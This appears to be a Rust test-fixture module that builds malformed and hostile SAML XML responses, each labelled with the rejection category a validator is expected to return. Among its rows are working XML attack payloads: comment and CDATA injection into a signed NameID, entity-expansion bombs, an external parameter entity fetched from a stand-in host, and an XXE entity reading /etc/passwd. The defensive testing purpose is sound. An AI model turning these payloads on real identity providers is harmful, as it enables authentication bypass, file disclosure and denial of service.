//! XML that parsers read differently, or at too great a cost.

use super::Row;
use super::forge::{USER, World};

pub fn lexical(world: &World) -> Vec<Row> {
    let signed = world.signed_assertion();
    let commented = USER.replace('@', "<!-- -->@");
    let said = |to: &str| world.said(USER, to);
    let dtd = |declarations: &str| format!("<!DOCTYPE samlp:Response [{declarations}]>{signed}");
    let namespaces = |which: std::ops::Range<u8>| which.map(|n| format!(" xmlns:n{n}=\"urn:{n}\"")).collect::<String>();
    vec![
        ("comment in NameID", signed.replace(USER, &commented), "comment"),
        (
            "comment in an attribute value",
            signed.replace("<saml:AttributeValue>staff", "<saml:AttributeValue>st<!-- -->aff"),
            "comment",
        ),
        ("comment in the signature", signed.replace("<ds:SignatureValue>", "<ds:SignatureValue><!-- -->"), "comment"),
        ("comment before", format!("<!-- x -->{signed}"), "comment"),
        (
            "30 000 comments",
            signed.replace("<samlp:Status>", &format!("{}<samlp:Status>", "<!---->".repeat(30_000))),
            "comment",
        ),
        ("CDATA that nobody signed", signed.replace(USER, &format!("<![CDATA[{USER}]]>")), "cdata"),
        ("CDATA in NameID", said("<![CDATA[admin]]>"), "cdata"),
        ("instruction in NameID", said("user<?x y?>"), "processing_instruction"),
        ("DOCTYPE", dtd(""), "dtd"),
        ("default attribute", dtd("<!ATTLIST saml:NameID Format CDATA 'x'>"), "dtd"),
        ("bomb", dtd("<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>"), "dtd"),
        (
            "quadratic blow-up",
            dtd(&format!("<!ENTITY a '{}'>", "a".repeat(50_000))).replace(USER, &"&a;".repeat(1_000)),
            "dtd",
        ),
        ("parameter entity", dtd("<!ENTITY % x SYSTEM 'https://evil.test/x.dtd'> %x;"), "dtd"),
        ("XXE", dtd("<!ENTITY x SYSTEM 'file:///etc/passwd'>").replace(USER, "&x;"), "dtd"),
        ("undefined entity", signed.replace(USER, "&x;"), "not_well_formed"),
        ("reference to NUL", signed.replace(USER, "u&#0;"), "not_well_formed"),
        ("undeclared prefix", signed.replace("<samlp:Status>", "<x:y></x:y><samlp:Status>"), "not_well_formed"),
        ("attribute twice", signed.replace(" ID=\"_assertion\"", " ID=\"_assertion\" ID=\"_evil\""), "not_well_formed"),
        ("relative namespace", signed.replace("<samlp:Status>", "<samlp:Status xmlns:x=\"1\">"), "namespace"),
        (
            "many namespaces",
            signed
                .replace("<samlp:Response ", &format!("<samlp:Response{} ", namespaces(0..40)))
                .replace("<samlp:Status>", &format!("<samlp:Status{}>", namespaces(40..80))),
            "namespace",
        ),
        ("XML 1.1", format!("<?xml version=\"1.1\"?>{signed}"), "not_well_formed"),
        ("blank", " ".into(), "not_well_formed"),
        ("trailing garbage", format!("{signed}garbage"), "not_well_formed"),
        ("second root", format!("{signed}{signed}"), "not_well_formed"),
        ("unclosed", signed.trim_end_matches("</samlp:Response>").to_owned(), "not_well_formed"),
        ("lying encoding", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{signed}"), "encoding"),
        ("UTF-16 said", format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{signed}"), "encoding"),
        ("byte order mark", format!("\u{feff}{signed}"), "not_utf8"),
        ("NUL", signed.replace(USER, "u\0"), "not_utf8"),
        ("deep", signed.replace(USER, &format!("{}{}", "<x>".repeat(5_000), "</x>".repeat(5_000))), "too_deep"),
        ("many siblings", signed.replace(USER, &"<x/>".repeat(25_000)), "too_many_nodes"),
        ("huge", signed.replacen(USER, &"x".repeat(300_000), 1), "too_large"),
        (
            "many attributes",
            signed.replace(
                "<samlp:Status>",
                &format!("<samlp:Status{}>", (0..70).map(|n| format!(" a{n}=\"\"")).collect::<String>()),
            ),
            "too_many_attributes",
        ),
        ("NameID with elements", said("<saml:Issuer>x</saml:Issuer>"), "name_id_malformed"),
    ]
}
